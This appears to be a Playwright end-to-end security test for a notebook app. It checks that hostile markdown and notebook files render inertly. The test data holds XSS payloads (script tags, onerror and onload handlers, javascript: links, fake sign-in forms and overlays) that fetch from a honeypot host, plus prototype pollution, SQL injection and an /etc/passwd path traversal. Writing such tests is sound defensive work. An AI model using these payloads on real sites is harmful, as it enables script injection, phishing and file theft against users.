import type { Page } from '@playwright/test';
import { cells, openText } from '../e2e/watched';
import { expect, test } from './attack';

const attacks = (host: string): [name: string, markdown: string][] => [
  ['a script', `<script>document.body.dataset.caught = 1; fetch('${host}/script')</script>`],
  ['a broken image that runs code', `<img src=x onerror="document.body.dataset.caught = 1; fetch('${host}/onerror')">`],
  [
    'an image of another host',
    `![chart](${host}/image.png)\n\n<img src="${host}/img.png">\n\n![x](//${host.slice(7)}/y)`
  ],
  ['a reference image of another host', `![a][b]\n\n[b]: ${host}/reference.png`],
  ['a picture with sources', `<picture><source srcset="${host}/set.png"><img src="${host}/alt.png"></picture>`],
  [
    'links that run code',
    '[a](javascript:document.body.dataset.caught=1) [b](JaVaScRiPt:alert(1)) [c](data:text/html,<script>alert(1)</script>) [d](vbscript:x) <javascript:alert(1)> [e](&#106;avascript:alert(1)) [f](java\nscript:alert(1))'
  ],
  [
    'a picture that carries a script',
    '![s](data:image/svg+xml,<svg/onload=alert(1)>) ![t](data:text/html;base64,PHNjcmlwdD4=)'
  ],
  [
    'a cover over the page',
    '<div style="position:fixed;inset:0;z-index:999;background:url(' + host + '/cover)">Sign in</div>'
  ],
  [
    'a style sheet',
    `<style>@import url(${host}/style.css); body { display: none }</style><link rel="stylesheet" href="${host}/link.css">`
  ],
  ['a page that leads away', `<meta http-equiv="refresh" content="0;url=${host}/refresh"><base href="${host}/">`],
  ['a form', `<form action="${host}/form"><input name=password autofocus><button>Go on</button></form>`],
  [
    'a frame',
    `<iframe src="${host}/frame"></iframe><object data="${host}/object"></object><embed src="${host}/embed">`
  ],
  [
    'a drawing with a handler',
    `<svg onload="fetch('${host}/svg')"><use href="${host}/use#a"/><image href="${host}/svg.png"/></svg>`
  ],
  [
    'a sound and a film',
    `<video src="${host}/film" poster="${host}/poster" autoplay></video><audio src="${host}/sound" autoplay></audio>`
  ],
  ['a name that hides another', '<a id=phemsRunner></a><img name=getElementById><form name=body></form>'],
  [
    'markup in a heading and in a link',
    '# <img src=x onerror=alert(1)>\n\n[<img src=x onerror=alert(1)>](x "onmouseover=alert(1)")'
  ]
];

/** Elements and attributes that have no business in rendered prose. */
const unsafe = (page: Page) =>
  page.evaluate(() => {
    const bad: string[] = [];
    const prose = document.querySelectorAll('li.cell.prose .output');
    if (prose.length === 0) return ['nothing was rendered'];
    for (const element of [...prose].flatMap((one) => [...one.querySelectorAll('*')])) {
      const name = element.localName;
      if (
        /^(script|style|link|meta|base|form|input|button|iframe|object|embed|svg|video|audio|source|picture)$/.test(
          name
        )
      )
        bad.push(`<${name}>`);
      for (const { name: attribute, value } of element.attributes) {
        if (attribute.startsWith('on') || attribute === 'style' || attribute === 'name' || attribute === 'srcset')
          bad.push(`${name} ${attribute}=${value}`);
        if (
          /^(href|src|action|xlink:href)$/.test(attribute) &&
          /^\s*(java|vb)script:|^\s*data:(?!image\/(png|jpe?g|gif|webp);)/i.test(value)
        )
          bad.push(`${name} ${attribute}=${value}`);
        if (attribute === 'src' && /^([a-z]+:)?\/\//i.test(value)) bad.push(`${name} ${attribute}=${value}`);
      }
    }
    if (document.body.dataset.caught) bad.push('code ran');
    if (getComputedStyle(document.body).display === 'none') bad.push('the page is hidden');
    return bad;
  });

test('hostile prose is shown as text: nothing runs, nothing is asked for, nothing covers the page', async ({
  page,
  honeypot
}) => {
  const list = attacks(honeypot.url);
  await openText(page, list.map(([name, text]) => `<!-- cell -->\n**${name}**\n\n${text}\n`).join('\n'));
  await expect(cells(page)).toHaveCount(list.length);
  await expect(cells(page).last()).toContainText('markup in a heading');
  expect(await unsafe(page)).toEqual([]);
  // Links that are left: each one either stays here or says where it leads, and opens without a way back.
  const links = await page
    .locator('li.cell.prose .output a')
    .evaluateAll((all) => all.map((link) => ({ href: link.getAttribute('href'), rel: link.getAttribute('rel') })));
  for (const { href, rel } of links) {
    if (/^https?:/.test(href ?? '')) expect(rel).toContain('noopener');
    else expect(href).toMatch(/^[#\w./%<>-]*$/);
  }
  // A second look once everything that could have been asked for would have been.
  await page.waitForLoadState('networkidle');
  expect(new URL(page.url()).pathname).toBe('/notebook');
  expect(honeypot.caught).toEqual([]);
});

const hostile = `---
title: "<img src=x onerror=alert(1)>"
format: 1
description: !!js/function 'function () { alert(1) }'
__proto__: { polluted: yes }
---
<!-- cell id="><script>alert(1)</script> -->
Prose

\`\`\`sql id=__proto__
select 1 as constructor
\`\`\`

\`\`\`sql id=constructor
select '<img src=x onerror=alert(1)>' as "<b onclick=alert(1)>column</b>"
\`\`\`

\`\`\`input id=toString
type: text
label: "<img src=x onerror=alert(1)>"
value: "'; drop table x; --"
\`\`\`

\`\`\`js id=code
fetch('HOST/js'); document.body.dataset.caught = 1
\`\`\`

\`\`\`chart id=drawn
from: constructor
mark: dot
x: "javascript:alert(1)"
\`\`\`

\`\`\`import id=stolen
file: HOST/file.csv
\`\`\`

\`\`\`import id=upward
file: site:../../../../etc/passwd
\`\`\`
`;

test('a hostile notebook opens as a notebook: no code runs, no host is asked, no object is changed', async ({
  page,
  honeypot,
  watch
}) => {
  await openText(page, hostile.replaceAll('HOST', honeypot.url));
  await expect(cells(page).first()).toBeVisible();
  await expect(page.locator('li.cell[data-status="running"], li.cell[data-status="queued"]')).toHaveCount(0);
  const state = await page.evaluate(() => ({
    caught: document.body.dataset.caught,
    polluted: ({} as { polluted?: unknown }).polluted,
    images: document.querySelectorAll('img[src="x"]').length,
    handlers: document.querySelectorAll('[onclick], [onerror]').length,
    scripts: document.querySelectorAll('main script').length
  }));
  expect(state).toEqual({ caught: undefined, polluted: undefined, images: 0, handlers: 0, scripts: 0 });
  // Run by hand, too: the imports are refused by name.
  await page.locator('header').getByRole('button', { name: 'More' }).first().click();
  await page.getByRole('menuitem', { name: 'Run all' }).click();
  await expect(page.locator('li.cell[data-status="running"], li.cell[data-status="queued"]')).toHaveCount(0);
  expect(await page.evaluate(() => document.body.dataset.caught)).toBeUndefined();
  expect(watch.foreign).toEqual([]);
  expect(honeypot.caught).toEqual([]);
});
